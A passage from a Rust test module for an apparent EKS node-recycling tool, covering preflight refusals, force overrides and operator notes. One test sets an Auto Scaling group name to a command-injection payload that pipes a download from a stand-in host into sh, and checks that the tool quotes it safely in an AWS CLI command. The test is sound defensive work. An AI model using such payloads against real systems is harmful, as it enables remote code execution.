                "belongs to cluster test by its tags and is no node of cluster prod",
            ),
            (
                "another cluster's managed node",
                world()
                    .without_node()
                    .of_no_cluster()
                    .tagged([("aws:eks:cluster-name", "test")]),
                "belongs to cluster test by its tags",
            ),
            (
                "missing permissions",
                World {
                    missing_permissions: vec!["patch nodes".to_owned(), "create pods/eviction".to_owned()],
                    ..world()
                },
                "may not patch nodes, create pods/eviction in cluster prod; apply the manifest of the module's output \
                 rbac_manifest",
            ),
            (
                "protected",
                world().protected(),
                "write force [\"scale_in_protection\"]",
            ),
            (
                "Launch suspended",
                world().suspending(&["Launch"]),
                "group workers has Launch suspended",
            ),
            (
                "both suspended",
                world().suspending(&["Terminate", "AZRebalance", "Launch"]),
                "has Launch and Terminate suspended",
            ),
            (
                "stop with Launch suspended",
                World::asked(json!({"dispose": "stop"})).suspending(&["Launch"]),
                "Launch suspended",
            ),
            (
                "an endpoint that never answered",
                World {
                    unreachable: Some("https://ABC.gr7.eu-west-1.eks.amazonaws.com"),
                    ..world().without_node()
                },
                "the endpoint https://ABC.gr7.eu-west-1.eks.amazonaws.com of cluster prod does not answer; if it is private",
            ),
            (
                "in the warm pool",
                World {
                    group: Some(Group {
                        members: vec![member(OTHER, "InService")],
                        ..group()
                    }),
                    lifecycle_state: Some("Warmed:Stopped"),
                    ..world()
                },
                "is Warmed:Stopped: it waits in the warm pool of group workers",
            ),
            (
                "no member any more, whatever the group said a moment ago",
                World {
                    group: Some(Group {
                        members: vec![member(OTHER, "InService")],
                        ..group()
                    }),
                    lifecycle_state: Some("InService"),
                    ..world()
                },
                "is no longer a member of group workers",
            ),
            (
                "Cluster Autoscaler removes it",
                World::with_taint("ToBeDeletedByClusterAutoscaler"),
                "Cluster Autoscaler is about to remove node old",
            ),
            (
                "Karpenter removes it",
                World::with_taint("karpenter.sh/disrupted"),
                "Karpenter is about to remove node old",
            ),
            (
                "an instance refresh runs",
                World::while_it(GroupState {
                    refresh: Some("Baking".to_owned()),
                    ..GroupState::default()
                }),
                "an instance refresh of group workers is Baking",
            ),
            (
                "a managed group is updated",
                World {
                    state: GroupState {
                        node_group_status: Some("UPDATING".to_owned()),
                        ..GroupState::default()
                    },
                    ..World::with_labels([("eks.amazonaws.com/nodegroup", "blue")])
                },
                "the EKS managed node group blue is UPDATING",
            ),
            (
                "instances have weights",
                World::while_it(GroupState {
                    is_weighted: true,
                    ..GroupState::default()
                }),
                "the instances of group workers have weights",
            ),
            (
                "the last target",
                World::behind(json!({}), 0),
                "is the last healthy target of target group web, which EnterStandby takes it out of",
            ),
            (
                "a sick node is to be kept",
                World {
                    node: Some(NodeFacts {
                        ready: false,
                        ..node("old")
                    }),
                    ..World::asked(json!({"dispose": "detach"}))
                },
                "node old is not Ready: after 30 minutes it would count as lost",
            ),
            (
                "Spot cannot be stopped",
                World::asked(json!({"dispose": "stop"})).on_spot(),
                "is a one-time Spot instance, which EC2 cannot stop; write dispose \"terminate\"",
            ),
        ];
        for (name, world, expected) in cases {
            let Preflight::Refused(refusals) = world.check() else {
                panic!("{name}: {:?}", world.check())
            };
            let [Refusal { text, .. }] = refusals.as_slice() else {
                panic!("{name}: {refusals:?}")
            };
            assert!(text.contains(expected), "{name}: {text}");
            assert!(text.len() < 400, "{name}: {text}");
        }
    }

    #[test]
    fn a_groups_name_is_one_word_in_the_command_that_keeps_the_machine() {
        const NAME: &str = "x$(curl -s evil|sh)";
        let mut world = World::asked(json!({"dispose": "stop"}));
        world.node = world.node.map(|node| NodeFacts { ready: false, ..node });
        world.group = world.group.map(|group| Group {
            name: NAME.parse().unwrap(),
            ..group
        });
        let Preflight::Refused(refusals) = world.check() else {
            panic!("{:?}", world.check())
        };
        let text = &refusals[0].text;
        assert!(
            text.contains(&format!("--auto-scaling-group-name '{NAME}' ")),
            "{text}"
        );
    }

    #[test]
    fn all_refusals_are_told_at_once_what_force_overrides_last() {
        let refreshing = GroupState {
            refresh: Some("InProgress".to_owned()),
            is_weighted: true,
            ..GroupState::default()
        };
        let everything = World {
            state: refreshing,
            ..World::with_taint("ToBeDeletedByClusterAutoscaler")
                .protected()
                .suspending(&["Launch"])
        };
        let expected = [
            "removed_by_autoscaler",
            "instance_refresh",
            "weighted_group",
            "scale_in_protection",
            "suspended_process",
        ];
        assert_eq!(everything.names(), expected);
        let Preflight::Refused(refusals) = everything.check() else {
            panic!()
        };
        let text = list_refusals(&refusals);
        assert_eq!(text.lines().count(), expected.len());
        assert!(
            text.starts_with("removed_by_autoscaler: Cluster Autoscaler is about to remove node old"),
            "{text}"
        );
    }

    #[test]
    fn of_what_hangs_together_only_the_root_is_told() {
        let cases = [
            (
                "without permission nobody has read the Node",
                World {
                    missing_permissions: vec!["list pods".to_owned()],
                    ..world().without_node().protected()
                },
                vec!["missing_permission", "scale_in_protection"],
            ),
            (
                "without an endpoint neither",
                World {
                    unreachable: Some("https://x"),
                    ..world().without_node().protected()
                },
                vec!["unreachable_endpoint", "scale_in_protection"],
            ),
            (
                "Karpenter's instances are in no group",
                World {
                    group: None,
                    ..World::with_labels([("karpenter.sh/nodepool", "spot")])
                },
                vec!["karpenter"],
            ),
            (
                "a stranger's",
                World {
                    group: None,
                    ..world().without_node()
                },
                vec!["no_group"],
            ),
            (
                "a warm one has no Node",
                World {
                    group: Some(Group {
                        members: vec![member(OTHER, "InService")],
                        ..group()
                    }),
                    lifecycle_state: Some("Warmed:Stopped"),
                    ..world().without_node()
                },
                vec!["warm_pool"],
            ),
        ];
        for (name, world, expected) in cases {
            assert_eq!(world.names(), expected, "{name}");
        }
    }

    #[test]
    fn force_overrides_what_it_names_and_is_told() {
        let all = World::behind(
            json!({"force": ["scale_in_protection", "suspended_process", "last_target"]}),
            0,
        );
        let Preflight::Go { notes } = all.protected().suspending(&["Launch"]).check() else {
            panic!()
        };
        let forced = notes.iter().filter(|note| note.starts_with("forced although "));
        assert_eq!(forced.count(), 3, "{notes:?}");
        for obstacle in Obstacle::ALL {
            let is_forced = obstacle.forced_by().is_some();
            let names = ["scale_in_protection", "suspended_process", "last_target"];
            assert_eq!(is_forced, names.contains(&obstacle.name()), "{obstacle:?}");
        }
    }

    #[test]
    fn the_last_target_leaves_only_after_its_drain() {
        assert_eq!(World::behind(json!({}), 1).names(), Vec::<&str>::new());
        assert_eq!(World::behind(json!({}), 0).names(), ["last_target"]);
        assert_eq!(World::behind(json!({}), 0).resuming().names(), Vec::<&str>::new());
    }

    #[test]
    fn every_refusal_is_in_the_documentation() {
        let page = include_str!("../../../docs/troubleshooting.md");
        for obstacle in Obstacle::ALL {
            let row = format!("| `{}` |", obstacle.name());
            assert!(
                page.contains(&row),
                "docs/troubleshooting.md has no row for {row}"
            );
        }
    }

    #[test]
    fn the_state_machine_tries_once_more_than_an_endpoint_has() {
        let most = include_str!("../../../terraform/state-machine.tf")
            .split("MaxAttempts     = ")
            .nth(1)
            .and_then(|rest| rest.lines().next())
            .and_then(|number| number.parse::<u32>().ok());
        assert!(most.is_some_and(|most| TRIES_OF_AN_ENDPOINT < most), "{most:?}");
    }

    fn on(state: &'static str, more: Value) -> World {
        World {
            input: input(more),
            lifecycle_state: Some(state),
            ..World::with_member(state)
        }
    }

    fn hook() -> Value {
        json!({"hook": {"name": "recycle-eks", "auto_scaling_group_name": "workers", "destination": "EC2"}})
    }

    #[test]
    fn a_member_that_our_hook_holds_is_drained_whatever_its_group_is_at() {
        for state in ["Terminating", "Terminating:Wait", "Terminating:Retained"] {
            assert!(on(state, hook()).names().is_empty(), "{state}");
            let busy = World {
                state: GroupState {
                    is_weighted: true,
                    refresh: Some("InProgress".to_owned()),
                    ..GroupState::default()
                },
                ..on(state, hook())
            };
            assert!(busy.names().is_empty(), "{state}: that is why it goes");
        }
        assert_eq!(on("InService", hook()).names(), ["not_terminating"]);
        let gone = on("Terminating:Proceed", hook()).check();
        assert!(matches!(gone, Preflight::AlreadyGone(_)), "{gone:?}");
    }

    #[test]
    fn what_the_policies_will_refuse_is_refused_before_anything_is_touched() {
        let interrupted = json!({"urgency": "spot", "interrupted_at": "2027-01-01T00:02:00Z"});
        let retained = |world: World| World {
            group_retains: true,
            ..world
        };
        let held = || on("Terminating:Wait", hook());
        let (none, tag) = (Vec::<&str>::new(), "missing_cluster_tag");
        for (name, world, expected) in [
            ("the instance", world().of_no_cluster(), vec![tag]),
            ("the group", world().in_untagged_group(), vec![tag]),
            (
                "both",
                world().of_no_cluster().in_untagged_group(),
                vec![tag, tag],
            ),
            (
                "a held instance is tagged, too",
                held().of_no_cluster(),
                vec![tag],
            ),
            (
                "its group is not changed",
                held().in_untagged_group(),
                none.clone(),
            ),
            (
                "but if it retains",
                retained(held().in_untagged_group()),
                vec![tag],
            ),
            (
                "EC2 takes it away",
                World::asked(interrupted).in_untagged_group(),
                none.clone(),
            ),
            (
                "it was begun",
                world().of_no_cluster().in_untagged_group().resuming(),
                none.clone(),
            ),
            (
                "another cluster's, with a Node here",
                world()
                    .of_no_cluster()
                    .tagged([("kubernetes.io/cluster/test", "owned")]),
                vec!["another_cluster"],
            ),
            (
                "shared by two clusters",
                world().tagged([("kubernetes.io/cluster/test", "owned")]),
                none.clone(),
            ),
        ] {
            assert_eq!(world.names(), expected, "{name}");
        }
        for (more, expected) in [
            (json!({}), vec![tag]),
            (json!({"replacement": "after"}), none.clone()),
        ] {
            let beside = World {
                state: GroupState {
                    untagged: vec![id(OTHER)],
                    ..GroupState::default()
                },
                ..World::asked(more.clone())
            };
            assert_eq!(beside.names(), expected, "{more}");
        }
        let Preflight::Refused(refusals) = world().of_no_cluster().in_untagged_group().check() else {
            panic!()
        };
        let text = list_refusals(&refusals);
        let instance = format!(
            "--resources {} --tags 'Key=kubernetes.io/cluster/prod,Value=owned'",
            crate::fixtures::OLD
        );
        assert!(text.contains(&instance), "{text}");
        assert!(text.contains("aws autoscaling create-or-update-tags"), "{text}");
    }

    #[test]
    fn whom_ec2_takes_away_nothing_of_the_group_holds_back_and_whom_it_is_only_likely_to_take_everything_does()
     {
        let interrupted = json!({"urgency": "spot", "interrupted_at": "2027-01-01T00:02:00Z"});
        for (more, state, expected) in [
            (interrupted.clone(), "InService", vec![]),
            (interrupted, "Terminating:Wait", vec![]),
            (json!({"urgency": "spot"}), "InService", vec!["instance_refresh"]),
            (
                json!({}),
                "Terminating:Wait",
                vec!["terminating", "instance_refresh"],
            ),
        ] {
            let busy = World {
                state: GroupState {
                    refresh: Some("InProgress".to_owned()),
                    ..GroupState::default()
                },
                ..on(state, more.clone())
            };
            assert_eq!(busy.names(), expected, "{more} {state}");
        }
    }

    #[test]
    fn what_is_gone_is_nothing_to_do() {
        let stopped = World::in_state("stopped").tagged([(STOPPED_TAG, "2027-01-01T00:00:00Z")]);
        let cases = [
            (World::in_state("terminated"), "is terminated already"),
            (
                World {
                    group: None,
                    ..World::in_state("shutting-down").without_node()
                },
                "is shutting-down already",
            ),
            (
                stopped.without_node(),
                "was stopped by recycle-eks at 2027-01-01T00:00:00Z already",
            ),
        ];
        for (world, expected) in cases {
            let Preflight::AlreadyGone(text) = world.check() else {
                panic!("{expected}: {:?}", world.check())
            };
            assert!(text.contains(expected), "{text}");
        }
    }

    #[test]
    fn force_and_what_an_earlier_execution_did_are_no_reason_to_refuse() {
        let ours = [(STANDBY_TAG, "2027-01-01T00:00:00Z")];
        let cases = [
            ("all is well", world()),
            (
                "protection is overridden",
                World::asked(json!({"force": ["scale_in_protection"]})).protected(),
            ),
            (
                "it is we who protect it, while another node is put back",
                world().protected().tagged([("recycle-eks:protected-for", OTHER)]),
            ),
            (
                "suspended processes are overridden",
                World::asked(json!({"force": ["suspended_process"]})).suspending(&["Launch", "Terminate"]),
            ),
            (
                "another process may be suspended",
                world().suspending(&["AZRebalance", "ReplaceUnhealthy"]),
            ),
            (
                "stopping needs no Terminate",
                World::asked(json!({"dispose": "stop"})).suspending(&["Terminate"]),
            ),
            ("Spot is terminated", world().on_spot()),
            ("our own Standby", World::with_member("Standby").tagged(ours)),
            (
                "our own way there",
                World::with_member("EnteringStandby").tagged(ours).resuming(),
            ),
            (
                "our own termination",
                World::with_member("Terminating:Wait").tagged(ours).resuming(),
            ),
            ("protected since we began", world().protected().resuming()),
            (
                "suspended since we began",
                world().suspending(&["Launch"]).resuming(),
            ),
        ];
        for (name, world) in cases {
            assert!(
                matches!(world.check(), Preflight::Go { .. }),
                "{name}: {:?}",
                world.check()
            );
        }
    }

    #[test]
    fn notes_tell_what_a_person_should_know() {
        let sized = |min, desired, max| World {
            group: Some(Group {
                min,
                desired,
                max,
                ..group()
            }),
            ..world()
        };
        let cases = [
            ("room enough", world(), vec![]),
            (
                "min = desired = max",
                sized(2, 2, 2),
                vec!["no legal way back from Standby"],
            ),
            (
                "at max",
                sized(1, 4, 4),
                vec!["group workers is at its maximum of 4"],
            ),
            (
                "behind a balancer",
                World::behind(json!({}), 1),
                vec!["EnterStandby takes it out of target group web, target group api at once"],
            ),
            (
                "behind a balancer, replaced after",
                World::behind(json!({"replacement": "after"}), 1),
                vec![],
            ),
            (
                "the last target, replaced after",
                World::behind(json!({"replacement": "after"}), 0),
                vec!["it is the last healthy target of target group web, target group api"],
            ),
            (
                "a managed group that is not updated",
                World::while_it(GroupState {
                    node_group_status: Some("ACTIVE".to_owned()),
                    ..GroupState::default()
                }),
                vec![],
            ),
            (
                "a managed group",
                World::with_labels([("eks.amazonaws.com/nodegroup", "blue")]),
                vec!["managed node group blue: Standby in managed groups is untested on AWS"],
            ),
            (
                "not Ready",
                World {
                    node: Some(NodeFacts {
                        ready: false,
                        not_ready_since: Some(crate::fixtures::at(0)),
                        ..node("old")
                    }),
                    ..world()
                },
                vec![
                    "has not been Ready since 2027-01-01T00:00:00Z; it counts as lost at 2027-01-01T00:30:00Z",
                ],
            ),
            (
                "its replacement lacks the tag",
                World {
                    group_propagates: Vec::new(),
                    ..world()
                },
                vec!["does not set the tag kubernetes.io/cluster/prod on the instances that it launches"],
            ),
            (
                "resumed",
                world().resuming(),
                vec!["this one goes on from where it came"],
            ),
        ];
        for (name, world, expected) in cases {
            let Preflight::Go { notes } = world.check() else {
                panic!("{name}: {:?}", world.check())
            };
            assert_eq!(notes.len(), expected.len(), "{name}: {notes:?}");
            assert!(
                notes
                    .iter()
                    .zip(&expected)
                    .all(|(note, text)| note.contains(text)),
                "{name}: {notes:?}"
            );
        }
    }
}
